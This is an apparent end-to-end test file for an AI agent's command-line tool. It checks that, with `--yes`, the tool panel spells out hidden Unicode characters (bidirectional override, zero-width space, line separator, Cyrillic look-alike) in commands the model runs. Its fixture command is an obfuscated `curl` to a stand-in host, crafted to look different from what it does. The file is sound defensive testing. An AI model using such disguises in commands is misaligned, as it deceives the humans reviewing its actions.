"""With --yes, the tool panel writes out what a command hides, as an approval would.

The twenty-third outside tester's fourth finding, end to end (tmux, the real SDK against
the fake Messages API): with `--yes` nobody is asked, and the panel's top is the only
record of a command. The model ran `echo '<RLO>gnp.tpircs<PDF>' && cu<ZWSP>rl
gіthub.invalid/x<LS>| cat` (a right-to-left override, a zero-width space inside `curl`, a
Cyrillic і, a LINE SEPARATOR): the panel drew `curl` whole, dropped the override without a
trace and put `| cat` on a row of its own, in the REPL and in `-p`. Now each is written
out (`<U+202E>`, `<U+200B>`, `<U+2028>`) on the command's own row, and the і is drawn in
reverse video on a terminal, written out (`<U+0456>`) into a pipe.
"""

from __future__ import annotations

import pytest
from e2e_support import agent_cli_argv, build_env, reversed_on_screen, run_piped
from fake_anthropic import Reply, start_fake_server, text_block, tool_use_block
from scene_support import open_scene

pytestmark = pytest.mark.e2e

API_KEY = "sk-ant-e2e-yes-header-0123456789abcdef"
DONE = "All done here."
COMMAND = "echo '\u202egnp.tpircs\u202c' && cu\u200brl g\u0456thub.invalid/x\u2028| cat"
WRITTEN = "echo '<U+202E>gnp.tpircs<U+202C>' && cu<U+200B>rl g\u0456thub.invalid/x<U+2028>| cat"
PANEL_TOP = f"╭─ bash  command: {WRITTEN}"
# Drawn in reverse video, as the approval draws them: the codes written out, the look-alike.
REVERSED = "<U+202E><U+202C><U+200B>\u0456<U+2028>"


def command_call() -> tuple[Reply, Reply]:
    return (
        Reply([tool_use_block("toolu_y1", "bash", {"command": COMMAND})], stop_reason="tool_use"),
        Reply([text_block(DONE)]),
    )


def test_the_repl_under_yes_writes_out_what_the_command_hides(tmp_path, terminals):
    with open_scene(tmp_path, terminals, API_KEY, {}, width=120, flags=["--yes"]) as scene:
        scene.server.enqueue(*command_call())
        scene.repl.send("go")
        terminal = scene.repl.terminal
        screen = terminal.wait_for(lambda screen: DONE in screen, "the end of the turn")
        rows = screen.splitlines()
        top = next(row for row in rows if row.startswith("╭─ bash"))
        assert top == PANEL_TOP, screen
        assert not any(row.startswith("│   | cat") for row in rows), screen
        coloured = next(row for row in terminal.visible_with_colours().splitlines() if "╭─" in row)
        assert reversed_on_screen(coloured) == REVERSED, coloured


def test_print_mode_under_yes_writes_it_out_on_a_terminal_and_into_a_pipe(tmp_path, terminals):
    workspace = tmp_path / "ws"
    workspace.mkdir()
    with start_fake_server(api_key=API_KEY) as server:
        env = build_env(
            tmp_path / "home", {"ANTHROPIC_API_KEY": API_KEY, "ANTHROPIC_BASE_URL": server.base_url}
        )
        server.enqueue(*command_call())
        terminal = terminals.open(env)
        terminal.start([*agent_cli_argv(), "-p", "go", "--yes"], cwd=workspace, width=120)
        assert terminal.wait_for_exit(timeout=60) == 0
        screen = terminal.screen()
        assert PANEL_TOP in screen.splitlines(), screen
        coloured = next(row for row in terminal.screen_with_colours().splitlines() if "╭─" in row)
        assert reversed_on_screen(coloured) == REVERSED, coloured

        server.enqueue(*command_call())
        run = run_piped(["-p", "go", "--yes"], cwd=workspace, env=env)
        assert run.returncode == 0, run.stderr
        top = next(row for row in run.stderr.splitlines() if row.startswith("╭─ bash"))
        assert top == PANEL_TOP.replace("\u0456", "<U+0456>"), run.stderr
